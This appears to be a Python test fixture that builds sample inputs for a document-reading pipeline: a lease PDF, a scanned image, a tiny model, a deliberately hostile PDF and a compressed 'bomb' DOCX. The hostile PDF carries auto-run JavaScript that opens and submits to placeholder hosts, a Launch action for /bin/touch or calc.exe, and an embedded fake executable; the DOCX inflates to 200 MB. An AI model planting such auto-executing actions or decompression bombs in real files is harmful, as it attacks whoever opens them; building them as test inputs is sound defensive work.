"""What the journeys read: a PDF, a scan, a hostile file and a tiny model, all made here."""

from __future__ import annotations

import json
import sys
import zipfile
from pathlib import Path

import pymupdf

SENTENCE = "Lieutenant Carvalho signed the lease for the Larkspur depot on 4 March 2021."
QUESTION = "Who signed the lease for the Larkspur depot?"


def make(folder: Path) -> None:
    """Writes ``lease.pdf``, ``scan.png``, ``hostile.pdf``, ``bomb.docx`` and ``model/``."""
    folder.mkdir(parents=True)
    with pymupdf.open() as document:
        page = document.new_page()
        page.insert_text((72, 100), SENTENCE, fontsize=11)
        page.insert_text((72, 130), "The rent is 4,800 a month.", fontsize=11)
        page.insert_link({"kind": pymupdf.LINK_URI, "from": page.rect, "uri": "https://a.example"})
        document.save(folder / "lease.pdf")
        drawing = page.get_pixmap(dpi=150, clip=(60, 80, 500, 150))
        drawing.save(folder / "scan.png")
    (folder / "hostile.pdf").write_bytes(_hostile_pdf())
    with zipfile.ZipFile(folder / "bomb.docx", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b" " * (200 << 20))
    _make_model(folder / "model")


def _hostile_pdf() -> bytes:
    """Opens a page of the web, sends a form and starts a program, where a reader lets it."""
    script = "app.launchURL('https://a.example'); this.submitForm('https://b.example');"
    with pymupdf.open() as document:
        document.new_page().insert_text((72, 100), "Nothing to see here.")
        catalog = document.pdf_catalog()
        document.xref_set_key(catalog, "OpenAction", f"<</S/JavaScript/JS({script})>>")
        launch = document.get_new_xref()
        document.update_object(launch, "<</S/Launch/F(/bin/touch)/Win<</F(calc.exe)>>>>")
        document.xref_set_key(catalog, "AA", f"<</WC {launch} 0 R>>")
        document.embfile_add("inside.exe", b"MZ" * 100)
        return bytes(document.tobytes())


def _make_model(folder: Path) -> None:
    sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "engine"))
    # Builds with torch and transformers; the program itself is not running yet.
    from tiny_media import write_seeing
    from transformers.utils import logging

    logging.disable_progress_bar()
    write_seeing(folder, "e2b")
    config = json.loads((folder / "config.json").read_text(encoding="utf-8"))
    # Room for a whole document; rotary positions have no weights.
    config["text_config"]["max_position_embeddings"] = 16_384
    (folder / "config.json").write_text(json.dumps(config), encoding="utf-8")
